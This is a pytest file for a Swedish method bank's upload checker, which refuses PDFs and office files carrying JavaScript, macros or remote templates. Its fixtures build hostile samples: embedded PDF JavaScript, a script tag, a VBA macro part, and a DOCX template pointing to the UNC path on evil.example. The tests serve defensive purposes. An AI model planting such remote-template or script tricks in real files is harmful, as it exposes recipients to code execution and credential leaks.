    assert hint in result[1], result


@pytest.mark.parametrize(
    "data, found",
    [
        (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\ngarbage", "content the bank cannot read as a PDF ("),
        (b"<html><script>alert(1)</script></html>", "content the bank cannot read as a PDF ("),
        (
            pdf() + b"\n99 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj\n",
            "the name /JavaScript outside what a PDF reader shows in the file",
        ),
    ],
)
def test_pdfs_the_bank_cannot_read_fully_are_refused(tmp_path, data, found):
    result = refusal(tmp_path, "affisch.pdf", data)
    assert result is not None and found in result[0], result


def test_a_pdf_whose_cross_reference_table_is_wrong_is_still_read_and_checked(tmp_path):
    data = pdf(open_action_javascript)
    shifted = data.replace(b"%PDF-1.3\n", b"%PDF-1.3\n% forty bytes that move every object's offset\n", 1)
    assert shifted != data
    result = refusal(tmp_path, "affisch.pdf", shifted)
    assert result is not None and "JavaScript code" in result[0], result


def test_a_long_action_chain_is_checked_in_linear_time(tmp_path, monkeypatch):
    """Each of the chain's 20,001 actions is looked at once: a walk that went back over the chain for each action
    would look at some 200 million dictionaries and be refused by the 100,000 allowed here."""
    monkeypatch.setattr("metodbanken.safety.pdf.MAX_PDF_OBJECTS", 100_000)

    def chain(writer):
        current = writer._add_object(dictionary(S="/URI", URI="https://www.example.org/"))
        for _ in range(20_000):
            current = writer._add_object(dictionary(S="/URI", URI="https://www.example.org/", Next=current))
        link(writer, current.get_object())

    assert refusal(tmp_path, "kedja.pdf", pdf(chain)) is None


def test_a_pdf_with_more_objects_than_the_limit_is_refused(tmp_path, monkeypatch):
    monkeypatch.setattr("metodbanken.safety.pdf.MAX_PDF_OBJECTS", 50)
    result = refusal(tmp_path, "stor.pdf", pdf(pages=60))
    assert result is not None and "more than 50 objects to look through" in result[0], result


# -- clean files pass ---------------------------------------------------------------------------------------------------


def docx_with_web_links() -> bytes:
    body = (
        f'<w:p><w:hyperlink r:id="rIdWeb" xmlns:r="{R}"><w:r><w:t>webbplatsen</w:t></w:r></w:hyperlink></w:p>'
        + field(' HYPERLINK "http://www.example.org/" ')
        + field(" HYPERLINK \\l ", '"Syfte" ')
        + field(" PAGE ")
        + field(' HYPERLINK "mailto:info@example.org" ')
    )
    data = docx_with_relationship("hyperlink", "http://www.example.org/")
    return rezip(data, insert={"word/document.xml": ("<w:sectPr", body.replace("rIdWeb", "rIdX"))})


def pdf_with_web_links(writer):
    link(writer, dictionary(S="/URI", URI="http://www.example.org/"))
    link(
        writer,
        dictionary(S="/URI", URI="https://www.example.org/", Next=dictionary(S="/URI", URI="mailto:info@example.org")),
    )
    catalog(writer, "/OpenAction", ArrayObject([writer.pages[0].indirect_reference, NameObject("/Fit")]))


@pytest.mark.parametrize(
    "name, data",
    [
        ("mall.docx", plain_docx()),
        ("mall.docx", docx_with_web_links()),
        ("bilder.pptx", plain_pptx()),
        ("statistik.xlsx", xlsx()),
        ("statistik.xlsx", xlsx('=CONCAT(A1,"|",A2)', '=HYPERLINK("https://www.example.org/","webbplatsen")')),
        ("mall.odt", odt()),
        ("affisch.pdf", pdf()),
        ("affisch.pdf", pdf(pdf_with_web_links, pages=3)),
    ],
)
def test_clean_files_are_published(tmp_path, name, data):
    assert refusal(tmp_path, name, data) is None


def test_every_material_file_of_the_banks_is_published():
    files = [path for bank in (REPO, FIXTURES / "bank") for path in sorted((bank / "materials").glob("*/*"))]
    assert files
    assert [
        (path, upload_problem(path, path.suffix[1:])) for path in files if upload_problem(path, path.suffix[1:])
    ] == []


def test_the_documents_the_build_makes_would_pass_the_same_check(bank_root, tmp_path):
    """Ours, not editors' (so the build does not check them), but the writers must not need an exception."""
    from metodbanken.documents.materials import build_documents
    from metodbanken.pages.render import load_labels

    bank = load_bank(bank_root)
    made = build_documents(bank, load_labels(REPO / "labels"), cache_dir=tmp_path / "cache")
    files = [(name, data) for per_material in made.files.values() for name, data in per_material]
    assert {name.rsplit(".", 1)[1] for name, _ in files} >= {"pdf", "docx"}
    assert [(name, found) for name, data in files if (found := refusal(tmp_path, name, data))] == []


# -- the editor's message, in check and in the build ------------------------------------------------------------------------


def unc_template_docx() -> bytes:
    return docx_with_relationship(
        "attachedTemplate", "\\\\evil.example\\share\\Normal.dotm", part="word/_rels/settings.xml.rels"
    )


def list_file(root: Path, name: str, data: bytes) -> None:
    (root / MATERIAL / name).write_bytes(data)
    edit(
        root / f"{MATERIAL}.md",
        "  - file: startmote-mall.md",
        f"  - file: {name}\n    language: sv\n  - file: startmote-mall.md",
    )


def test_the_refusal_names_the_file_what_and_where_with_a_hint_in_swedish_and_english(bank_root):
    list_file(bank_root, "startmote-mall.pdf", pdf(open_action_javascript))
    with pytest.raises(ContentErrors) as info:
        load_bank(bank_root)
    (error,) = info.value.errors
    assert error.render("sv") == (
        f"{MATERIAL}.md:10: files[0].file: förväntade en fil som banken kan publicera i {MATERIAL}/, hittade "
        "'startmote-mall.pdf' med JavaScript-kod i dokumentkatalogen (det som gäller hela PDF:en). "
        "Tips: exportera PDF:en utan JavaScript (till exempel med Skriv ut > Spara som PDF)."
    )
    assert error.render("en") == (
        f"{MATERIAL}.md:10: files[0].file: expected a file the bank can publish in {MATERIAL}/, found "
        "'startmote-mall.pdf' with JavaScript code in the document catalog (what applies to the whole PDF). "
        "Hint: export the PDF without JavaScript (for example with Print > Save as PDF)."
    )


def test_a_macro_document_in_swedish_names_the_program(bank_root):
    list_file(bank_root, "mall.docx", rezip(plain_docx(), add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}))
    with pytest.raises(ContentErrors) as info:
        load_bank(bank_root)
    (error,) = info.value.errors
    assert (
        "hittade 'mall.docx' med makron i word/vbaProject.bin. Tips: spara filen igen från Word utan makron"
        in error.render("sv")
    )


def test_check_and_the_strict_build_refuse_an_editors_file_named_like_a_generated_one(tmp_path):
    """startmote-mall.md makes startmote-mall.docx; an editor's own file of that name wins, so it is the one checked."""
    root = assemble(tmp_path / "site")
    list_file(root, "startmote-mall.docx", unc_template_docx())
    expected = (
        f"{MATERIAL}.md:10: files[0].file: förväntade en fil som banken kan publicera i {MATERIAL}/, hittade "
        "'startmote-mall.docx' med en mall eller ett dokument som hämtas från '\\\\evil.example\\share\\Normal.dotm' "
        "i word/_rels/settings.xml.rels. Tips: koppla bort mallen"
    )
    check = subprocess.run([sys.executable, "-m", "metodbanken", "check"], cwd=root, capture_output=True, text=True)
    assert check.returncode == 1, check.stdout + check.stderr
    (line,) = [line.strip() for line in check.stdout.splitlines() if "startmote-mall.docx" in line]
    assert line.startswith(expected), line
    result = build(root)
    assert result.returncode != 0, "the strict build published a DOCX with a template on a UNC path"
    assert line in result.stdout + result.stderr, "the build says what check says, word for word"
    assert not (root / "site" / "material" / "startmote-mall" / "startmote-mall.docx").exists()
